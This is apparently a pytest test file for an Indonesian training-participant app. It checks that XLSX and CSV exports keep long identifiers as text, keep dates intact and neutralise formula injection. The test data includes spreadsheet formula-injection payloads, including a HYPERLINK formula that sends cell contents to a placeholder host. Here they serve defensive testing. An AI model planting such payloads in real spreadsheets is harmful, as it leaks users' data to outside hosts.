"""Participant and class-list exports, read back the way Excel and other programs read them:
identifiers stay text to the last digit, dates are dates, and no value ever becomes a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from class_scenario import build

from lpks_desktop.core import models as m
from lpks_desktop.core.errors import UserError
from lpks_desktop.core.exporting import (
    TEXT_MARK,
    csv_cell,
    export_class_list,
    export_format,
    export_participants,
    phone_text,
    status_labels,
)

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
SITI_NIK = "6311015103950001"  # 16 digits: Excel as a number would keep 15 and show 6.31102E+15
TRICKY = {
    "formula": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "plus": "+62 812 3456 7890",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def read_xlsx(path: Path) -> list[list]:
    """Cell values of the first sheet as Excel would show them."""
    try:
        from python_calamine import CalamineWorkbook
    except ImportError:  # pragma: no cover - calamine is installed where tests run
        return [[cell["value"] for cell in row] for row in xlsx_cells(path)]
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    return [[int(v) if isinstance(v, float) and v.is_integer() else v for v in row] for row in rows]


def xlsx_cells(path: Path) -> list[list[dict]]:
    """Every cell of the first sheet straight from the XML: its type, style, formula, text."""
    with zipfile.ZipFile(path) as archive:
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        styles = ElementTree.fromstring(archive.read("xl/styles.xml"))
        shared = []
        if "xl/sharedStrings.xml" in archive.namelist():
            root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{MAIN}t")) for si in root.iter(f"{MAIN}si")]
    formats = list(styles.find(f"{MAIN}cellXfs"))
    rows = []
    for row in sheet.iter(f"{MAIN}row"):
        cells = []
        for c in row.iter(f"{MAIN}c"):
            kind = c.get("t")
            if kind == "inlineStr":
                value = _unescape("".join(t.text or "" for t in c.iter(f"{MAIN}t")))
            elif kind == "s":
                value = shared[int(c.find(f"{MAIN}v").text)]
            else:
                v = c.find(f"{MAIN}v")
                value = None if v is None else float(v.text)
            xf = formats[int(c.get("s", 0))]
            cells.append({"ref": c.get("r"), "type": kind, "value": value,
                          "formula": c.find(f"{MAIN}f") is not None,
                          "quote_prefix": xf.get("quotePrefix") == "1",
                          "num_fmt": int(xf.get("numFmtId", 0))})
        rows.append(cells)
    return rows


def _unescape(text: str) -> str:
    """OOXML writes control characters as _xHHHH_."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


def column(rows: list[list], header: str) -> list:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


def read_csv(path: Path, delimiter: str = ",") -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def unmarked(value: str) -> str:
    return value[1:] if value.startswith(TEXT_MARK) else value


@pytest.fixture
def world(store):
    world = build(store)
    people = [
        ("Siti Aminah", "P", SITI_NIK, "+6281234567890", dt.date(1995, 3, 11), "4801234567890123"),
        ("Budi Hartono", "L", "6311011203950002", "+6285212345678", dt.date(1995, 3, 12), None),
        *[(name, "L", f"63110113039500{i + 3:02d}", "", None, None)
          for i, name in enumerate(TRICKY.values())],
    ]
    world.people = {}
    for name, sex, nik, phone, born, card in people:
        world.people[name] = store.save(m.Participant(
            nik=nik, full_name=name, sex=sex, phone=phone, birth_date=born, birth_place="Paringin",
            city="Kabupaten Balangan", prakerja_card_number=card))
    statuses = ["passed_selection", "reserve", "not_passed", "reserve", "registered", "withdrew",
                "enrolled", "reserve"]
    ranks = {1: 3, 3: 1, 7: 2}
    for index, (participant, status) in enumerate(zip(world.people.values(), statuses)):
        store.save(m.Enrollment(training_class=world.klass.id, participant=participant.id,
                                status=status, reserve_rank=ranks.get(index)))
    # Someone of another institution's class, and an archived person in no class.
    other = store.save(m.TrainingClass(
        institution=world.stb.id, program=world.program.id, code="STB-LAS-2026-01", name="Las",
        capacity=10))
    outsider = store.save(m.Participant(nik="6311010101900009", full_name="Orang Lain", sex="L"))
    store.save(m.Enrollment(training_class=other.id, participant=outsider.id))
    store.save(m.Participant(nik="6311010101900010", full_name="Arsip Lama", sex="L", archived=True))
    world.other = other
    return world


def test_xlsx_keeps_nik_and_phone_as_text_and_dates_as_dates(store, world, tmp_path):
    path = tmp_path / "peserta.xlsx"
    assert export_participants(path, lang="id") == len(world.people) + 1
    rows = read_xlsx(path)
    assert rows[0][:3] == ["No.", "NIK", "Nama lengkap"]
    siti = next(r for r in rows if r[2] == "Siti Aminah")
    header = rows[0]
    assert siti[header.index("NIK")] == SITI_NIK  # every digit, as text
    assert siti[header.index("Telepon")] == "0812-3456-7890"  # leading 0 kept
    assert siti[header.index("Nomor kartu Prakerja")] == "4801234567890123"
    assert siti[header.index("Tanggal lahir")] == dt.date(1995, 3, 11)
    assert column(rows, "No.") == list(range(1, len(rows)))

    cells = xlsx_cells(path)
    nik_cells = [row[1] for row in cells[1:]]
    assert all(c["type"] in ("inlineStr", "s") for c in nik_cells)
    # The NIK column is formatted as Text (@, format 49), so a retyped NIK stays text too.
    assert all(c["num_fmt"] == 49 for c in nik_cells)
    birth = next(row for row in cells if any(c["value"] == "Siti Aminah" for c in row))[5]
    assert birth["type"] is None and birth["num_fmt"] >= 164  # a number with a date format


def test_xlsx_never_holds_a_formula_from_data(store, world, tmp_path):
    path = tmp_path / "peserta.xlsx"
    export_participants(path)
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    names = {row[2]["value"]: row[2] for row in xlsx_cells(path)[1:]}
    for tricky in TRICKY.values():
        cell = names[tricky]
        assert cell["type"] in ("inlineStr", "s") and not cell["formula"]
        # Excel's own "typed with an apostrophe" flag: editing the cell keeps it text.
        assert cell["quote_prefix"], tricky
    assert not names["Siti Aminah"]["quote_prefix"]
    assert set(TRICKY.values()) <= set(column(read_xlsx(path), "Full name"))


def test_csv_round_trip_through_the_csv_module(store, world, tmp_path):
    path = tmp_path / "peserta.csv"
    export_participants(path, lang="en")
    rows = read_csv(path)
    assert rows[0][:3] == ["No.", "NIK", "Full name"]
    by_name = {unmarked(r[2]): r for r in rows[1:]}
    siti = by_name["Siti Aminah"]
    # Digits-only identifiers carry the text mark, so Excel keeps all 16 digits.
    assert siti[1] == TEXT_MARK + SITI_NIK and unmarked(siti[1]) == SITI_NIK
    assert siti[rows[0].index("Phone")] == "0812-3456-7890"
    assert siti[rows[0].index("Date of birth")] == "1995-03-11"
    assert siti[rows[0].index("Prakerja card number")] == TEXT_MARK + "4801234567890123"
    for tricky in TRICKY.values():
        marked = TEXT_MARK + tricky
        assert marked in [r[2] for r in rows], tricky
    # Every cell, unmarked, is exactly what was stored.
    stored = {p.full_name: p for p in m.Participant.select().where(m.Participant.archived == False)}  # noqa: E712
    assert {unmarked(r[2]) for r in rows[1:]} == set(stored)
    for row in rows[1:]:
        assert unmarked(row[1]) == stored[unmarked(row[2])].nik


def test_csv_semicolon_and_plain_variants(store, world, tmp_path):
    path = tmp_path / "peserta.csv"
    export_participants(path, semicolon=True, excel_text=False, lang="id")
    text = path.read_bytes().decode("utf-8-sig")
    assert text.splitlines()[0].startswith("No.;NIK;Nama lengkap;")
    rows = read_csv(path, delimiter=";")
    siti = next(r for r in rows if r[2] == "Siti Aminah")
    assert siti[1] == SITI_NIK  # plain: no text mark on identifiers
    # ...but a would-be formula is still never written bare.
    assert TEXT_MARK + TRICKY["formula"] in [r[2] for r in rows]
    assert text.count("\r\n") == len(rows)  # CRLF line ends, as Excel writes them


def test_csv_cell_rules():
    assert csv_cell("Siti") == "Siti"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1") == "'" + start + "1"
    assert csv_cell("081234567890", "code") == "'081234567890"
    assert csv_cell("+6281234567890", "code") == "'+6281234567890"
    assert csv_cell("0812-3456-7890", "code") == "0812-3456-7890"
    assert csv_cell("081234567890", "code", excel_text=False) == "081234567890"
    assert csv_cell("081234567890", "text") == "081234567890"


def test_filters_by_class_and_institution(store, world, tmp_path):
    every = tmp_path / "all.csv"
    export_participants(every)
    names = {unmarked(r[2]) for r in read_csv(every)[1:]}
    assert "Orang Lain" in names and "Arsip Lama" not in names

    export_participants(every, include_archived=True)
    assert "Arsip Lama" in {unmarked(r[2]) for r in read_csv(every)[1:]}

    one_class = tmp_path / "class.xlsx"
    assert export_participants(one_class, class_id=world.klass.id) == len(world.people)
    assert "Orang Lain" not in column(read_xlsx(one_class), "Full name")

    stb = tmp_path / "stb.csv"
    assert export_participants(stb, institution_id=world.stb.id) == 1
    assert [unmarked(r[2]) for r in read_csv(stb)[1:]] == ["Orang Lain"]


def test_class_list_has_status_labels_and_reserves_in_rank_order(store, world, tmp_path):
    path = tmp_path / "kelas.xlsx"
    assert export_class_list(path, world.klass.id, lang="id") == len(world.people)
    rows = read_xlsx(path)
    words = {key: text.render("id") for key, text in status_labels().items()}
    statuses = column(rows, "Status")
    assert set(statuses) == {words[s] for s in ("passed_selection", "enrolled", "registered",
                                                "reserve", "not_passed", "withdrew")}
    # Seated first, then those waiting, then reserves by rank, then who did not pass or left.
    order = [words[s] for s in ("passed_selection", "enrolled", "registered", "reserve",
                                "not_passed", "withdrew")]
    assert statuses == sorted(statuses, key=order.index)
    reserve = words["reserve"]
    reserves = [(r[rows[0].index("Urutan cadangan")], r[2]) for r in rows[1:] if r[8] == reserve]
    assert [rank for rank, _ in reserves] == [1, 2, 3]
    assert [name for _, name in reserves] == [TRICKY["plus"], TRICKY["cr"], "Budi Hartono"]
    # Only reserves have a rank.
    assert all(r[9] in ("", None) for r in rows[1:] if r[8] != reserve)
    assert isinstance(column(rows, "Waktu daftar")[0], dt.datetime)
    with zipfile.ZipFile(path) as archive:
        assert re.search(rb'<sheet name="SBP-JHT-2026-01"', archive.read("xl/workbook.xml"))

    csv_path = tmp_path / "kelas.csv"
    export_class_list(csv_path, world.klass.id, lang="en")
    rows = read_csv(csv_path)
    assert rows[0][8:10] == ["Status", "Reserve rank"]
    assert [r[9] for r in rows[1:] if r[8] == status_labels()["reserve"].render("en")] == ["1", "2", "3"]
    assert column(rows, "NIK")[0].startswith(TEXT_MARK)


@pytest.fixture
def out(tmp_path) -> Path:
    """A folder of its own: the SQLite database lives in tmp_path."""
    folder = tmp_path / "out"
    folder.mkdir()
    return folder


def test_a_bad_file_name_is_refused_before_anything_is_written(store, world, out):
    tmp_path = out
    for name, hint in (("peserta.pdf", ".xlsx or .csv"), ("peserta.xls", "old .xls"),
                       ("peserta", ".xlsx or .csv")):
        with pytest.raises(UserError) as caught:
            export_participants(tmp_path / name)
        assert hint in caught.value.render("en")
        assert ".xlsx atau .csv" in caught.value.render("id")
    assert list(tmp_path.iterdir()) == []
    assert export_format("DATA.XLSX") == "xlsx" and export_format("x.txt", "csv") == "csv"
    with pytest.raises(UserError):
        export_class_list(tmp_path / "kelas.ods", world.klass.id)


def test_a_missing_folder_is_a_user_error(store, world, tmp_path):
    with pytest.raises(UserError) as caught:
        export_participants(tmp_path / "nowhere" / "peserta.xlsx")
    assert "nowhere" in caught.value.render("en")


def test_an_existing_file_is_replaced_whole_and_no_temporary_file_is_left(store, world, out):
    tmp_path = out
    path = tmp_path / "peserta.csv"
    path.write_text("old content that is much longer than nothing\n" * 500)
    export_participants(path, class_id=world.other.id)
    assert [unmarked(r[2]) for r in read_csv(path)[1:]] == ["Orang Lain"]
    assert [p.name for p in tmp_path.iterdir()] == ["peserta.csv"]


def test_a_large_export_streams_and_reports_progress(store, world, tmp_path):
    rows = [{"nik": f"3171{i:012d}", "full_name": f"Peserta {i:05d}", "sex": "LP"[i % 2],
             "phone": f"+62812{i:08d}"} for i in range(2500)]
    with store.transaction():
        for start in range(0, len(rows), 500):
            m.Participant.insert_many(rows[start:start + 500]).execute()
    seen = []
    path = tmp_path / "besar.xlsx"
    count = export_participants(path, progress=lambda done, total: seen.append((done, total)))
    total = 2500 + len(world.people) + 1
    assert count == total
    assert seen[0] == (1000, total) and seen[-1] == (total, total)
    niks = column(read_xlsx(path), "NIK")
    assert "3171000000002499" in niks and all(len(n) == 16 for n in niks)


def test_phone_text_groups_mobile_numbers_like_the_phone_library():
    from lpks_desktop.core.validation.phone import format_phone_local

    numbers = [f"+62{prefix}{'1234567890'[:length]}" for prefix in ("811", "812", "852", "881", "895")
               for length in (6, 7, 8, 9)]
    numbers += ["+62215551234", "+62361234567", "+6512345678", "0812"]
    for number in numbers:
        assert phone_text(number) == format_phone_local(number), number
    assert phone_text("") == ""


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_an_export_imports_back_unchanged(store, world, tmp_path, suffix):
    """What one PC exports, another imports: every NIK intact, nobody new, nothing changed."""
    from lpks_desktop.core.importing import plan_import

    path = tmp_path / f"peserta{suffix}"
    export_participants(path)
    plan = plan_import(path)
    assert plan.ok, [p.message("en") for p in plan.errors]
    assert plan.new_rows == []
    # Only the deliberately odd names that begin with a tab or CR come back trimmed.
    for update in plan.updates:
        (before, after), = update.changes.values()
        assert set(update.changes) == {"full_name"} and before.strip() == after
    assert len(plan.unchanged) + len(plan.updates) == m.Participant.select().where(~m.Participant.archived).count()
